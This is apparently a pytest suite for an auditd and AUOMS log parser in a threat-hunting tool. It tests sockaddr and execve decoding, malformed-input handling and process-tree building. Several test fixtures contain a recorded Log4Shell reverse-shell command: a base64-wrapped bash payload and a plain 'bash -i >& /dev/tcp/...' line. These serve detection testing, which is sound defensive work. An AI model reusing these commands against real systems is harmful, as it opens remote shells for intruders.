"""auditd reader: raw audit.log text and AUOMS rows, on the real OTRF files and on hand-built records."""

from __future__ import annotations

import ipaddress
import json
import struct
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import orjson
import pytest
from canonical import load_rows
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from stagehunt import hunt, processes, sources
from stagehunt.diagnostics import Diagnostics
from stagehunt.sources.auditd import SockAddr, decode_saddr, execve_argv, parse_fields, proctitle_argv
from stagehunt.store import EventStore

OTRF = Path(__file__).parents[1] / "data" / "real" / "otrf"  # OTRF Security-Datasets, MIT
ARP = OTRF / "sh_arp_cache_2020-11-10074812.log"
DD = OTRF / "sh_binary_padding_dd_2020-11-10081941.log"
AZURE_AUOMS = OTRF / "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json"

# FORMATS.md, "Linux auditd (real lines)"
CURL = """\
type=SYSCALL msg=audit(1531903575.684:1152): arch=c000003e syscall=42 success=no exit=-115 a0=3 a1=7ffc57d16b70 \
a2=10 a3=7ffc57d16460 items=0 ppid=2076 pid=6422 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 \
tty=pts0 ses=31 comm="curl" exe="/usr/bin/curl" key="network_outbound"
type=SOCKADDR msg=audit(1531903575.684:1152): saddr=020001BBD83AD5440000000000000000
type=PROCTITLE msg=audit(1531903575.684:1152): proctitle=6375726C002D760068747470733A2F2F7777772E676F6F676C652E636F6D
"""


def load(path: Path, fmt: str = "auto") -> tuple[list[dict], Diagnostics, list]:
    return load_rows(path, fmt, "source_line, source_record, rowid")


def pick(row: dict, *keys: str) -> dict:
    return {k: row[k] for k in keys}


PROC = ("kind", "event_id", "pid", "parent_pid", "image", "command_line", "user", "host", "source_line")
NET = ("kind", "event_id", "pid", "image", "dst_ip", "dst_port", "remote_ip", "remote_port", "direction", "protocol")


def syscall(serial: int, t: float, nr: int, pid: int, ppid: int, exe: str, *, success: str = "yes",
            arch: str = "c000003e", a0: str = "3", extra: str = "") -> str:
    return (f"type=SYSCALL msg=audit({t:.3f}:{serial}): arch={arch} syscall={nr} success={success} exit=0 a0={a0} "
            f'a1=0 a2=0 a3=0 items=1 ppid={ppid} pid={pid} auid=1000 uid=1000 gid=1000 euid=1000 tty=pts0 ses=3 '
            f'comm="{Path(exe).name[:15]}" exe="{exe}" key=(null){extra}\n')


def execve(serial: int, t: float, *args: str) -> str:
    return f"type=EXECVE msg=audit({t:.3f}:{serial}): argc={len(args)} " + " ".join(
        f"a{i}={encode_arg(a)}" for i, a in enumerate(args)) + "\n"


def sockaddr(serial: int, t: float, saddr: str) -> str:
    return f"type=SOCKADDR msg=audit({t:.3f}:{serial}): saddr={saddr}\n"


def encode_arg(arg: str) -> str:
    """As the kernel's audit_log_untrustedstring: hex if any byte is a quote, space, control or non-ASCII."""
    raw = arg.encode()
    if any(b == 0x22 or b <= 0x20 or b >= 0x7f for b in raw):
        return raw.hex().upper()
    return f'"{arg}"'


def encode_saddr(family: int, ip: str, port: int, flowinfo: int = 0, scope: int = 0) -> str:
    """struct sockaddr_in / sockaddr_in6 as the kernel logs it: family in host (little-endian) order."""
    addr = ipaddress.ip_address(ip).packed
    if family == 2:
        return (struct.pack("<H", 2) + struct.pack(">H", port) + addr + bytes(8)).hex().upper()
    return (struct.pack("<H", 10) + struct.pack(">HI", port, flowinfo) + addr + struct.pack("<I", scope)).hex()


def write(tmp_path: Path, text: str, name: str = "audit.log") -> Path:
    path = tmp_path / name
    path.write_text(text)
    return path


# -- the real files -----------------------------------------------------------------------------------

def test_real_files_are_sniffed_as_auditd():
    assert [sources.sniff(p) for p in (ARP, DD, AZURE_AUOMS)] == ["auditd"] * 3


def test_arp_cache_execve_records():
    rows, diag, files = load(ARP)
    assert diag.total == 0 and files[0].format == "auditd" and files[0].notes == []
    assert [pick(r, *PROC) for r in rows] == [
        {"kind": "process_start", "event_id": 59, "pid": 1631, "parent_pid": 29002, "image": "/usr/sbin/arp",
         "command_line": "arp -a", "user": "1000", "host": None, "source_line": 1},
        {"kind": "process_start", "event_id": 59, "pid": 1632, "parent_pid": 29002, "image": "/bin/grep",
         "command_line": "grep -v ^?", "user": "1000", "host": None, "source_line": 7},
    ]
    assert {r["time"] for r in rows} == {datetime(2020, 11, 10, 7, 48, 16, 155000)}
    assert {r["provider"] for r in rows} == {"auditd"} and {r["source_file"] for r in rows} == {ARP.name}


def test_binary_padding_dd_execve_record():
    rows, diag, _ = load(DD)
    assert diag.total == 0
    [r] = rows
    assert pick(r, *PROC) == {"kind": "process_start", "event_id": 59, "pid": 2168, "parent_pid": 29002,
                              "image": "/bin/dd", "command_line": "dd if=/dev/zero bs=1 count=1", "user": "1000",
                              "host": None, "source_line": 1}
    assert r["time"] == datetime(2020, 11, 10, 8, 19, 44, 965000)


def test_auoms_rows_log4shell():
    rows, diag, files = load(AZURE_AUOMS)
    assert diag.total == 0 and files[0].format == "auditd" and files[0].notes == []
    assert len(rows) == 50 and [r["source_line"] for r in rows] == list(range(1, 51))
    # 23 execve calls failed (success=no exit=-2: a PATH search trying /usr/local/sbin/bash...): no new image ran
    assert sum(r["kind"] == "process_start" for r in rows) == 27
    assert sum(r["kind"] == "other" for r in rows) == 23
    assert {(r["event_id"], r["host"], r["provider"]) for r in rows} == {(59, "ubuntu5", "auditd")}
    assert pick(rows[5], *PROC, "parent_image") == {
        "kind": "process_start", "event_id": 59, "pid": 17790, "parent_pid": 1340, "image": "/bin/bash",
        "command_line": 'bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}'
                        '|{base64,-d}|{bash,-i}"',
        "user": "tomcat", "host": "ubuntu5", "source_line": 6, "parent_image": None}
    assert rows[5]["time"] == datetime(2022, 5, 11, 18, 10, 21, 990000)
    # the reverse shell: bash -i, a child of the exploited process that became bash (pid 17790)
    assert pick(rows[6], "pid", "parent_pid", "image", "command_line", "parent_image", "parent_command_line") == {
        "pid": 17794, "parent_pid": 17790, "image": "/bin/bash", "command_line": "bash -i",
        "parent_image": "/bin/bash", "parent_command_line": rows[5]["command_line"]}
    failed = rows[0]
    assert pick(failed, "kind", "pid", "image", "command_line", "user") == {
        "kind": "other", "pid": 17790, "image": "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java",
        "command_line": None, "user": "tomcat"}


def test_auoms_json_array_uses_record_numbers(tmp_path):
    rows_in = [orjson.loads(raw) for raw in AZURE_AUOMS.read_bytes().splitlines()[:8]]
    array = tmp_path / "export.json"
    array.write_bytes(orjson.dumps(rows_in))
    assert sources.sniff(array) == "auditd"
    rows, diag, files = load(array)
    assert diag.total == 0 and files[0].origin_unit == "record"
    assert [r["source_record"] for r in rows] == list(range(1, 9)) and {r["source_line"] for r in rows} == {None}
    assert rows[6]["command_line"] == "bash -i"


def test_azure_rows_that_are_not_audit_records_are_skipped_with_a_note(tmp_path):
    rows_in = [orjson.loads(raw) for raw in AZURE_AUOMS.read_bytes().splitlines()[:3]]
    noise = dict(rows_in[0], SyslogMessage="Output(oms): Connected")
    path = tmp_path / "mixed.json"
    path.write_bytes(b"\n".join(orjson.dumps(r) for r in [*rows_in, noise]) + b"\n{broken\n")
    rows, diag, files = load(path)
    assert len(rows) == 3 and files[0].notes == ["1 row(s) skipped: SyslogMessage is not an audit record"]
    assert [(p.line, p.message.split(":")[0]) for p in diag.problems] == [(5, "malformed JSON")]


def test_inspect_shows_auditd_and_counts_by_syscall(tmp_path):
    curl = write(tmp_path, CURL + syscall(9, 1531903576.0, 59, 6423, 2076, "/bin/ls") + execve(9, 1531903576.0, "ls"),
                 "curl.log")
    proc = subprocess.run([sys.executable, "-m", "stagehunt.cli", "inspect", "--json", str(ARP), str(DD),
                           str(AZURE_AUOMS), str(curl)], capture_output=True, check=False)
    assert proc.returncode == 0
    got = {Path(r["file"]).name: (r["format"], r["events"], r["by_event_id"], r["error_count"])
           for r in json.loads(proc.stdout)["files"]}
    assert got == {ARP.name: ("auditd", 2, {"auditd": {"59": 2}}, 0),
                   DD.name: ("auditd", 1, {"auditd": {"59": 1}}, 0),
                   AZURE_AUOMS.name: ("auditd", 50, {"auditd": {"59": 50}}, 0),
                   "curl.log": ("auditd", 2, {"auditd": {"42": 1, "59": 1}}, 0)}


# -- FORMATS.md example and decoding -------------------------------------------------------------------

def test_formats_example_curl_connect(tmp_path):
    rows, diag, _ = load(write(tmp_path, CURL))
    assert diag.total == 0
    [r] = rows
    # success=no exit=-115 (EINPROGRESS) is how a non-blocking connect starts: kept
    assert pick(r, *NET) == {"kind": "network", "event_id": 42, "pid": 6422, "image": "/usr/bin/curl",
                             "dst_ip": "216.58.213.68", "dst_port": 443, "remote_ip": "216.58.213.68",
                             "remote_port": 443, "direction": "outbound", "protocol": None}
    assert r["time"] == datetime(2018, 7, 18, 8, 46, 15, 684000) and r["user"] == "0" and r["source_line"] == 1
    assert decode_saddr("020001BBD83AD5440000000000000000") == SockAddr("inet", "216.58.213.68", 443, None, 2)
    assert proctitle_argv(parse_fields(CURL.splitlines()[2].split("): ", 1)[1])["proctitle"]) == [
        "curl", "-v", "https://www.google.com"]


def test_proctitle_is_the_command_line_when_execve_args_are_not_logged(tmp_path):
    lines = CURL.splitlines()
    text = lines[0].replace("syscall=42 success=no exit=-115", "syscall=59 success=yes exit=0") + "\n" + lines[2]
    [r] = load(write(tmp_path, text))[0]
    assert pick(r, "kind", "pid", "parent_pid", "command_line") == {
        "kind": "process_start", "pid": 6422, "parent_pid": 2076, "command_line": "curl -v https://www.google.com"}


def test_a_plain_proctitle_is_quoted_text_not_hex():
    # one argument without special bytes is logged quoted; "cafe" must not become the bytes CA FE
    assert proctitle_argv('"cafe"') == ["cafe"]
    assert proctitle_argv(parse_fields(' proctitle="cafe"')["proctitle"]) == ["cafe"]


def test_ipv6_sockaddr_by_hand(tmp_path):
    # sockaddr_in6: family 0A00 (LE), port 01BB, flowinfo 00000000, 16-byte address, scope id 00000000
    saddr = "0A0001BB00000000" + "2A001450400908150000000000002004" + "00000000"
    assert decode_saddr(saddr) == SockAddr("inet6", "2a00:1450:4009:815::2004", 443, None, 10)
    mapped = "0A000050" + "00000000" + "00000000000000000000FFFF5DB8D822" + "00000000"
    assert decode_saddr(mapped).ip == "93.184.216.34"  # dual-stack socket to an IPv4 host
    text = syscall(7, 1700000000.5, 42, 900, 1, "/usr/bin/wget") + sockaddr(7, 1700000000.5, saddr)
    [r] = load(write(tmp_path, text))[0]
    assert pick(r, "kind", "dst_ip", "dst_port", "remote_ip") == {
        "kind": "network", "dst_ip": "2a00:1450:4009:815::2004", "dst_port": 443,
        "remote_ip": "2a00:1450:4009:815::2004"}


def test_unix_socket_paths_are_decoded_and_are_no_network_destination(tmp_path):
    path = "0100" + b"/var/run/nscd/socket".hex() + "00" * 88
    assert decode_saddr(path) == SockAddr("unix", None, None, "/var/run/nscd/socket", 1)
    abstract = "0100" + "00" + b"/tmp/.X11-unix/X0".hex()
    assert decode_saddr(abstract).path == "@/tmp/.X11-unix/X0"
    assert decode_saddr("1000" + "00" * 10).family == "other"  # AF_NETLINK
    text = syscall(8, 1700000001.0, 42, 901, 1, "/usr/sbin/nscd") + sockaddr(8, 1700000001.0, path)
    [r] = load(write(tmp_path, text))[0]
    assert pick(r, "kind", "event_id", "pid", "dst_ip", "remote_ip") == {
        "kind": "other", "event_id": 42, "pid": 901, "dst_ip": None, "remote_ip": None}


@pytest.mark.parametrize("saddr", ["02000050C0A8", "0A0001BB0000", "0", "ZZ00", ""])
def test_short_or_broken_saddr_raises_value_error(saddr):
    with pytest.raises(ValueError):
        decode_saddr(saddr)


def test_hex_encoded_execve_args_with_spaces_and_quotes(tmp_path):
    args = ["sh", "-c", 'curl "https://a.example/x y"; echo done', "tab\there", "ünï"]
    line = execve(5, 1700000002.0, *args)
    assert 'a0="sh" a1="-c" a2=6375726C' in line  # plain args quoted, the others hex
    assert execve_argv(parse_fields(line.split("): ", 1)[1])) == args
    text = syscall(5, 1700000002.0, 59, 1000, 999, "/bin/sh") + line
    [r] = load(write(tmp_path, text))[0]
    assert r["command_line"] == 'sh -c "curl \\"https://a.example/x y\\"; echo done" "tab\there" ünï'


def test_long_argument_split_over_fields_and_records():
    # the kernel splits long arguments (a1_len, a1[0], a1[1]) and long argv over several EXECVE records
    fields = {"argc": "3", "a0": '"python3"', "a1_len": "12", "a1[0]": "68656C6C6F20", "a1[1]": '"world!"',
              "a2": "(null)"}
    assert execve_argv(fields) == ["python3", "hello world!", ""]


def test_failed_execve_is_no_process_start(tmp_path):
    text = syscall(1, 1.0, 59, 50, 49, "/usr/bin/java", success="no") + execve(1, 1.0, "/no/such")
    [r] = load(write(tmp_path, text))[0]
    assert pick(r, "kind", "event_id", "pid", "image") == {"kind": "other", "event_id": 59, "pid": 50,
                                                          "image": "/usr/bin/java"}


def test_auoms_connect_and_non_syscall_records(tmp_path):
    # AUOMS folds SOCKADDR into its one record as hex; proctitle is written unescaped up to the trailer
    connect = ('type=AUOMS_SYSCALL audit(1652292700.100:90001): SchemaVersion="1" auoms_version=2.5.2.0 '
               'node=UBUNTU5 arch=x86_64 syscall=connect syscall_r=42 success=no exit=-115 a0=3 a1=7ffd a2=10 a3=0 '
               'ppid=17790 pid=17794 audit_user=unset auid=4294967295 user=tomcat uid=1001 comm="bash" '
               f'exe="/bin/bash" key=auoms saddr={encode_saddr(2, "192.168.2.6", 443)} '
               'proctitle=bash -i >& /dev/tcp/192.168.2.6/443 0>&1 redactors= containerid=')
    inventory = 'type=AUOMS_PROCESS_INVENTORY audit(1652292700.200:90002): node=UBUNTU5 pid=1 exe="/sbin/init"'
    path = tmp_path / "auoms.json"
    path.write_bytes(b"".join(orjson.dumps({"Computer": "UBUNTU5", "SyslogMessage": m}) + b"\n"
                              for m in (connect, inventory)))
    rows, diag, files = load(path)
    assert diag.total == 0
    assert files[0].notes == ["1 audit event(s) without a syscall skipped (AUOMS_PROCESS_INVENTORY 1)"]
    [r] = rows
    assert pick(r, *NET, "user", "host") == {
        "kind": "network", "event_id": 42, "pid": 17794, "image": "/bin/bash", "dst_ip": "192.168.2.6",
        "dst_port": 443, "remote_ip": "192.168.2.6", "remote_port": 443, "direction": "outbound", "protocol": None,
        "user": "tomcat", "host": "ubuntu5"}
    fields = parse_fields(connect.split("): ", 1)[1], auoms=True)
    assert fields["proctitle"] == "bash -i >& /dev/tcp/192.168.2.6/443 0>&1" and fields["containerid"] == ""


def test_kernel_printk_form_and_syslog_prefix(tmp_path):
    text = ("Nov 10 07:48:16 web1 kernel: audit: type=1300 audit(1604994496.155:7): arch=c000003e syscall=59 "
            "success=yes exit=0 ppid=1 pid=2 uid=0 comm=\"id\" exe=\"/usr/bin/id\"\n"
            "Nov 10 07:48:16 web1 kernel: audit: type=1309 audit(1604994496.155:7): argc=1 a0=\"id\"\n")
    path = write(tmp_path, text, "kern.log")
    assert sources.sniff(path) == "auditd"
    [r] = load(path)[0]
    assert pick(r, "kind", "pid", "image", "command_line") == {
        "kind": "process_start", "pid": 2, "image": "/usr/bin/id", "command_line": "id"}


# -- grouping, hosts, users, architectures -----------------------------------------------------------

def test_interleaved_records_join_by_serial_and_keep_the_first_line(tmp_path):
    a, b = 1700000100.0, 1700000100.0
    text = (syscall(21, a, 59, 301, 300, "/usr/bin/curl") + syscall(22, b, 59, 302, 300, "/usr/bin/wget")
            + execve(22, b, "wget", "-q", "http://x") + execve(21, a, "curl", "-s", "http://y")
            + f"type=EOE msg=audit({a:.3f}:21): \n" + f"type=EOE msg=audit({b:.3f}:22): \n")
    rows, diag, _ = load(write(tmp_path, text))
    assert diag.total == 0
    assert [(r["pid"], r["command_line"], r["source_line"]) for r in rows] == [
        (301, "curl -s http://y", 1), (302, "wget -q http://x", 2)]


def test_node_prefix_gives_the_host_and_enriched_names_the_user(tmp_path):
    text = ("node=Web-01 " + syscall(3, 5.0, 59, 77, 1, "/bin/ls").rstrip("\n")
            + '\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="alice" GID="alice"\n'
            + "node=Web-01 " + execve(3, 5.0, "ls"))
    [r] = load(write(tmp_path, text))[0]
    assert pick(r, "host", "user", "command_line") == {"host": "web-01", "user": "alice", "command_line": "ls"}


def test_other_architectures_and_i386_socketcall(tmp_path):
    inet = encode_saddr(2, "8.8.4.4", 53)
    text = (syscall(1, 1.0, 221, 10, 1, "/usr/bin/id", arch="c00000b7") + execve(1, 1.0, "id")
            + syscall(2, 2.0, 102, 11, 1, "/usr/bin/nc", arch="40000003", a0="3") + sockaddr(2, 2.0, inet)
            + syscall(3, 3.0, 102, 11, 1, "/usr/bin/nc", arch="40000003", a0="1")  # socket(), not connect
            + syscall(4, 4.0, 203, 12, 1, "/usr/bin/nc", arch="c00000b7") + sockaddr(4, 4.0, inet)
            + syscall(5, 5.0, 11, 13, 1, "/bin/true", arch="40000003"))
    rows, diag, _ = load(write(tmp_path, text))
    assert diag.total == 0
    assert [(r["kind"], r["event_id"], r["dst_ip"]) for r in rows] == [
        ("process_start", 221, None), ("network", 102, "8.8.4.4"), ("other", 102, None),
        ("network", 203, "8.8.4.4"), ("process_start", 11, None)]


def test_events_without_a_syscall_are_skipped_with_a_note_and_orphans_reported(tmp_path):
    text = ("type=USER_LOGIN msg=audit(10.000:1): pid=5 uid=0 msg='op=login acct=\"bob\" res=success'\n"
            + sockaddr(2, 11.0, encode_saddr(2, "1.1.1.1", 443)))
    rows, diag, files = load(write(tmp_path, text))
    assert files[0].notes == ["1 audit event(s) without a syscall skipped (USER_LOGIN 1)"]
    # a SOCKADDR whose SYSCALL line was lost names no process: kept as other, never as a network event
    assert [(r["kind"], r["pid"], r["source_line"]) for r in rows] == [("other", None, 2)]
    assert [(p.line, p.message.split(" (")[0]) for p in diag.problems] == [
        (2, "audit event without its SYSCALL record")]


def test_many_open_events_without_eoe_all_come_out(tmp_path):
    n = 2_500  # more than the reader keeps open: the oldest are finished early
    text = "".join(syscall(i, 100.0 + i, 59, 1000 + i, 1, "/bin/echo") + execve(i, 100.0 + i, "echo", str(i))
                   for i in range(n))
    rows, diag, _ = load(write(tmp_path, text))
    assert diag.total == 0 and len(rows) == n
    assert [(r["pid"], r["command_line"], r["source_line"]) for r in rows] == [
        (1000 + i, f"echo {i}", 2 * i + 1) for i in range(n)]


# -- robustness -------------------------------------------------------------------------------------------

def test_malformed_lines_are_reported_with_their_line_and_reading_goes_on(tmp_path):
    text = ("garbage here\n" + CURL.splitlines()[0] + "\n"
            + "type=SOCKADDR msg=audit(1531903575.684:1152): saddr=0200\n"  # cut short
            + "type=SYSCALL msg=audit(1531903\n")
    rows, diag, _ = load(write(tmp_path, text), "auditd")
    assert [(r["kind"], r["pid"], r["dst_ip"]) for r in rows] == [("network", 6422, None)]
    by_line = {p.line: p.message for p in diag.problems}
    assert sorted(by_line) == [1, 2, 4] and diag.total == 3
    assert "AF_INET saddr of 2 bytes" in by_line[2]  # the event's first line: its SYSCALL
    assert by_line[1].startswith("not an audit record") and by_line[4].startswith("not an audit record")


_ARG_TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=30)


@given(st.lists(_ARG_TEXT, min_size=1, max_size=8))
def test_execve_args_round_trip(argv):
    line = execve(1, 1.0, *argv)
    assert execve_argv(parse_fields(line.split("): ", 1)[1])) == argv


@given(st.lists(_ARG_TEXT.filter(bool), min_size=1, max_size=8))
def test_proctitle_round_trip(argv):
    assert proctitle_argv("\x00".join(argv).encode().hex().upper()) == argv


@given(st.sampled_from([2, 10]), st.integers(0, 2**32 - 1), st.integers(0, 2**128 - 1), st.integers(0, 65535),
       st.integers(0, 2**32 - 1))
def test_saddr_round_trip(family, v4, v6, port, flowinfo):
    ip = str(ipaddress.IPv4Address(v4)) if family == 2 else str(ipaddress.IPv6Address(v6))
    sa = decode_saddr(encode_saddr(family, ip, port, flowinfo, scope=flowinfo))
    expect = ip
    if family == 10 and ipaddress.IPv6Address(v6).ipv4_mapped is not None:
        expect = str(ipaddress.IPv6Address(v6).ipv4_mapped)
    assert (sa.family, sa.ip, sa.port) == ({2: "inet", 10: "inet6"}[family], expect, port)


# a DuckDB store per example: slower than hypothesis's default deadline on a busy machine
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\n\ufeff"), max_size=80),
                max_size=15))
def test_garbage_never_raises_and_every_line_is_counted(tmp_path, lines):
    content = "\n".join(lines) + "\n"
    path = write(tmp_path, content, "garbage.log")
    rows, diag, _ = load(path, "auditd")
    assert rows == []
    if content.lstrip(" \t\r\n")[:1] not in ("{", "["):  # text: each line is a record or a counted error
        assert diag.total == sum(1 for x in lines if x.strip())
    else:  # JSON rows: broken ones are counted, rows without an audit record are noted, not errors
        assert diag.total <= max(1, sum(1 for x in lines if x.strip()))


def test_a_broken_json_array_keeps_the_rows_before_the_damage(tmp_path):
    """An Azure export cut short (a download that stopped): the rows before the cut are read, the cut is
    reported at its element, as for every JSON reader (the whole file used to be one error)."""
    rows_in = [orjson.loads(raw) for raw in AZURE_AUOMS.read_bytes().splitlines()[:8]]
    whole = orjson.dumps(rows_in, option=orjson.OPT_INDENT_2)
    keys = [i for i in range(len(whole)) if whole.startswith(b'"SyslogMessage"', i)]
    cut = whole[:keys[7]]  # inside row 8
    rows, diag, _ = load(write(tmp_path, cut.decode(), "a.json"), "auditd")
    expected, _, _ = load(write(tmp_path, orjson.dumps(rows_in[:7]).decode(), "b.json"), "auditd")
    assert [r["source_record"] for r in rows] == [r["source_record"] for r in expected] and rows
    assert [(p.record, p.message.split(" (")[0]) for p in diag.problems] == [
        (8, "not valid JSON from array element 8 on")]


_REAL_LINES = [x for x in (ARP.read_text() + DD.read_text() + CURL).splitlines() if x]


# a DuckDB store per example: slower than hypothesis's default deadline on a busy machine
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(st.sampled_from(_REAL_LINES), st.integers(0, 400)), max_size=15))
def test_truncated_lines_never_raise_and_cut_stamps_are_counted(tmp_path, cuts):
    lines = [line[:n] for line, n in cuts]
    path = write(tmp_path, "\n".join(lines) + "\n", "cut.log")
    rows, diag, _ = load(path, "auditd")
    cut_stamp = [i for i, x in enumerate(lines, 1) if x.strip() and "):" not in x and ")" not in x.split("audit(")[-1]]
    assert set(cut_stamp) <= {p.line for p in diag.problems}
    assert len(rows) <= len(lines)


_NUMBER = st.one_of(st.integers(-(2**70), 2**70).map(str), st.text("0123456789abcdefx-", max_size=25))


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(st.sampled_from(["SYSCALL", "EXECVE", "SOCKADDR", "PROCTITLE", "EOE", "1300", "AUOMS_X"]),
                          st.integers(0, 10**14), _NUMBER, st.integers(0, 3), _NUMBER, _NUMBER),
                max_size=12))
def test_well_formed_stamps_with_wild_values_never_raise(tmp_path, recs):
    """Records that look right but carry absurd numbers (times past 9999, 70-bit pids, odd hex)."""
    lines = [f"type={t} msg=audit({sec}.123:{serial}): arch=c000003e syscall={nr} success=yes pid={pid} "
             f"ppid={pid} exe=\"/bin/x\" saddr={hx} a0={hx} proctitle={hx}"
             for t, sec, nr, serial, pid, hx in recs]
    rows, _, _ = load(write(tmp_path, "\n".join(lines) + "\n", "wild.log"), "auditd")
    assert len(rows) <= len(recs)
    assert all(r["time"] is not None and r["time"].year <= 9999 for r in rows)
    assert all(r["pid"] is None or abs(r["pid"]) < 2**31 for r in rows)


def test_absurd_numbers_are_dropped_not_stored(tmp_path):
    text = ("type=SYSCALL msg=audit(999999999999.000:1): arch=c000003e syscall=59 pid=1\n"
            + "type=SYSCALL msg=audit(1700000000.000:2): arch=c000003e syscall=99999999999 "
              "pid=123456789012345678901234 exe=\"/bin/x\"\n")
    rows, diag, _ = load(write(tmp_path, text))
    assert [(r["kind"], r["event_id"], r["pid"], r["image"]) for r in rows] == [("other", None, None, "/bin/x")]
    assert sorted(p.line for p in diag.problems) == [1, 2]
    assert "past the year 9999" in diag.problems[0].message


# -- end to end -------------------------------------------------------------------------------------------

def test_shell_running_two_curls_to_two_addresses(tmp_path):
    """bash -c 'curl A; curl B': each stage alone reaches one address. The rows must carry what a
    sibling-chain detection joins on: one host, both curls' parent pid = the shell's pid, the shell's
    start logged (its image names it a shell), and the process tree linking them."""
    t = 1762084800.0  # 2025-11-02 12:00:00 UTC
    text = (syscall(1, t, 59, 4242, 4200, "/bin/bash")
            + execve(1, t, "bash", "-c", "curl -s https://a.example/1; curl -s https://b.example/2")
            + syscall(2, t + 1, 59, 4243, 4242, "/usr/bin/curl") + execve(2, t + 1, "curl", "-s", "https://a.example/1")
            + syscall(3, t + 2, 42, 4243, 4242, "/usr/bin/curl")
            + sockaddr(3, t + 2, encode_saddr(2, "93.184.216.34", 443))
            + syscall(4, t + 60, 59, 4244, 4242, "/usr/bin/curl") + execve(4, t + 60, "curl", "-s", "https://b.example/2")
            + syscall(5, t + 61, 42, 4244, 4242, "/usr/bin/curl")
            + sockaddr(5, t + 61, encode_saddr(10, "2606:4700::6810:84e5", 443)))
    path = write(tmp_path, text)
    rows, diag, _ = load(path)
    assert diag.total == 0
    assert [(r["kind"], r["pid"], r["parent_pid"], r["image"], r["parent_image"], r["dst_ip"]) for r in rows] == [
        ("process_start", 4242, 4200, "/bin/bash", None, None),
        ("process_start", 4243, 4242, "/usr/bin/curl", "/bin/bash", None),
        ("network", 4243, None, "/usr/bin/curl", None, "93.184.216.34"),
        ("process_start", 4244, 4242, "/usr/bin/curl", "/bin/bash", None),
        ("network", 4244, None, "/usr/bin/curl", None, "2606:4700::6810:84e5"),
    ]
    # the process tree built from these rows links both curls to the one bash instance
    with EventStore() as store:
        sources.load(store, [sources.Input(path.name, path)], "auto", Diagnostics())
        processes.build(store.con)
        tree = dict(store.con.execute("SELECT pid, parent_key FROM proc").fetchall())
        bash_key = store.con.execute("SELECT key FROM proc WHERE pid = 4242").fetchone()[0]
    assert tree[4243] == tree[4244] == bash_key
    # each stage reached one address and the shell none: the per-process and parent->child rules stay quiet
    found = hunt([path])
    assert not [f for f in found if f.detection_type in ("multi_stage_c2", "parent_child_handoff")]
